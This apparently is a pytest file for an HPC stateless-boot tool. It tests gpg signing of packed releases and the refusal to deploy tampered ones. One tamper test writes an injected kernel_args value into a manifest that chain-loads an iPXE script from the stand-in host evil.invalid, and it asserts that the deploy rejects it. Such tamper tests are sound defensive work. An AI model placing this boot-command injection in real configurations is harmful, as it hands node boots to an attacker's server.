"""Signed releases end to end with real gpg: hpc.stateless.pack writes a version, hpc.stateless.sign signs its
SHA256SUMS with a throw-away site key, and deploy (the bootlink module and playbooks/deploy.yml) publishes it only
when gpgv verifies it against the configured keyring.

The packs are of small directory trees with a stand-in kernel (the signature is the point, not the image), so
every step is a real module run in a few seconds. The refusals (unsigned, wrong key, damaged signature, modified
SHA256SUMS, re-signed by another key) are fault cases in tests/faults/test_signed_release.py.
"""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path

import pytest
from conftest import REPO, run_site
from deploy_support import write_inventory
from pack_support import pack_module, run_module, small_root

sys.path.insert(0, str(REPO / "tests" / "unit" / "plugins" / "module_utils"))
from bootlink_fixtures import tree_snapshot  # noqa: E402  pylint: disable=wrong-import-position
from signing_keys import SIGNATURE, SUMS, gpgv, sha256sum_check, throwaway_key  # noqa: E402  pylint: disable=wrong-import-position

NOT_CHECKED = "hpc_stateless_boot_keyring is not set: releases are published WITHOUT checking their signature"


@pytest.fixture(scope="module")
def site_key(tmp_path_factory):
    with throwaway_key(tmp_path_factory.mktemp("keys"), "site") as key:
        yield key


def pack(out: Path, image: str, version: str, base: Path) -> Path:
    rc, packed = pack_module(image=image, source_path=str(small_root(base)), output_dir=str(out), version=version)
    assert rc == 0, packed.get("msg")
    return Path(packed["version_dir"])


def test_pack_sign_and_deploy_with_the_keyring(tmp_path, site_key):
    out, root = tmp_path / "out", tmp_path / "tftp"
    version_dir = pack(out, "signed", "1.0", tmp_path)
    params = {"version_dir": str(version_dir), "key": site_key.fingerprint, "gnupghome": str(site_key.home)}

    rc, predicted = run_module("hpc.stateless.sign", check_mode=True, **params)
    assert rc == 0 and predicted["changed"], predicted.get("msg")
    assert not (version_dir / SIGNATURE).exists()
    rc, signed = run_module("hpc.stateless.sign", **params)
    assert rc == 0 and signed["changed"], signed.get("msg")
    assert signed["fingerprint"] == site_key.fingerprint
    assert gpgv(site_key.binary, version_dir).returncode == 0
    rc, again = run_module("hpc.stateless.sign", **params)
    assert rc == 0 and not again["changed"], again.get("msg")

    rc, deployed = run_module("hpc.stateless.bootlink", boot_root=str(root), image="signed", src=str(version_dir),
                              lock_timeout=0, keyring=str(site_key.armored), signers=[site_key.fingerprint])
    assert rc == 0, deployed.get("msg")
    assert deployed["published"] and deployed["current"] == "1.0"
    assert deployed["signature"]["checked"] and deployed["signature"]["fingerprint"] == site_key.fingerprint
    published = root / "images" / "signed" / "1.0"
    for name in (SUMS, SIGNATURE):
        assert (published / name).read_bytes() == (version_dir / name).read_bytes(), name
    assert gpgv(site_key.binary, published).returncode == 0
    check = sha256sum_check(published)
    assert check.returncode == 0, check.stdout + check.stderr
    listed = {line.split("  ", 1)[1] for line in (published / SUMS).read_text().splitlines()}
    assert {name for name in listed if (published / name).is_file()} == listed  # one format packed: all published

    rc, second = run_module("hpc.stateless.bootlink", boot_root=str(root), image="signed", src=str(version_dir),
                            lock_timeout=0, keyring=str(site_key.armored))
    assert rc == 0 and not second["changed"], second.get("msg")


def deploy_playbook(tmp_path: Path, out: Path, root: Path, **group_vars):
    images = {name: {"layer": "base", "formats": ["cpio.zst"], "kernel_args": "quiet"} for name in ("alpha", "beta")}
    inventory = write_inventory(tmp_path / f"inventory-{len(group_vars)}", images,
                                {"n1": {"hpc_stateless_boot_mac": "52:54:00:5e:00:01", "hpc_stateless_boot_image": "beta"}},
                                hpc_stateless_boot_root=str(root), hpc_stateless_pack_output_dir=str(out),
                                hpc_stateless_boot_lock_timeout=0, hpc_stateless_boot_copy_loader=False, **group_vars)
    return run_site("-e", "hpc_stateless_deploy_version=1.0", inventory=inventory, playbook="playbooks/deploy.yml")


def test_deploy_playbook_says_once_without_keyring_and_verifies_with_one(tmp_path, site_key):
    out = tmp_path / "out"
    for image in ("alpha", "beta"):
        run_module("hpc.stateless.sign", version_dir=str(pack(out, image, "1.0", tmp_path)), key=site_key.fingerprint,
                   gnupghome=str(site_key.home))

    unchecked = deploy_playbook(tmp_path, out, tmp_path / "tftp-unchecked")
    assert unchecked.returncode == 0, unchecked.stdout[-3000:]
    assert unchecked.stdout.count(NOT_CHECKED) == 1, unchecked.stdout[-3000:]  # once per run, not per image

    root = tmp_path / "tftp"
    checked = deploy_playbook(tmp_path, out, root, hpc_stateless_boot_keyring=str(site_key.armored),
                              hpc_stateless_boot_signers=[site_key.fingerprint])
    assert checked.returncode == 0, checked.stdout[-3000:]
    assert NOT_CHECKED not in checked.stdout
    for image in ("alpha", "beta"):
        assert os.readlink(root / image) == f"images/{image}/1.0"
        assert gpgv(site_key.binary, root / image).returncode == 0
        assert sha256sum_check(root / image).returncode == 0


def test_deploy_playbook_refuses_a_published_release_whose_pack_manifest_was_edited(tmp_path, site_key):
    """Issue 25: 1.0 is signed and published; then its pack output's manifest.json is edited (SHA256SUMS and the
    signature left alone). A keyring-checked deploy refuses it instead of rendering boot entries from it."""
    out, root = tmp_path / "out", tmp_path / "tftp"
    for image in ("alpha", "beta"):
        rc, signed = run_module("hpc.stateless.sign", version_dir=str(pack(out, image, "1.0", tmp_path)),
                                key=site_key.fingerprint, gnupghome=str(site_key.home))
        assert rc == 0, signed.get("msg")
    keyring = {"hpc_stateless_boot_keyring": str(site_key.armored), "hpc_stateless_boot_signers": [site_key.fingerprint]}
    first = deploy_playbook(tmp_path, out, root, **keyring)
    assert first.returncode == 0, first.stdout[-3000:]
    before = tree_snapshot(root)

    edited = out / "beta" / "1.0" / "manifest.json"
    manifest = json.loads(edited.read_text())
    manifest["uncompressed_size"] = 64 * 2**30  # would change every entry's ramdisk_size
    manifest["initrd"] = {"file": "initrd.img", "kernel_args": "rd.live.image && chain http://evil.invalid/x.ipxe ||"}
    manifest["verification"] = {"status": "passed"}
    edited.write_text(json.dumps(manifest, indent=2) + "\n")
    assert gpgv(site_key.binary, edited.parent).returncode == 0  # the signature itself still verifies

    again = deploy_playbook(tmp_path, out, root, **keyring)
    assert again.returncode != 0, again.stdout[-3000:]
    assert f"{edited} does not match its checksum in SHA256SUMS" in again.stdout, again.stdout[-3000:]
    assert "changed after the image was packed and signed" in again.stdout
    assert tree_snapshot(root) == before
    assert not [path for path in root.rglob("*.ipxe") if "evil" in path.read_text()]
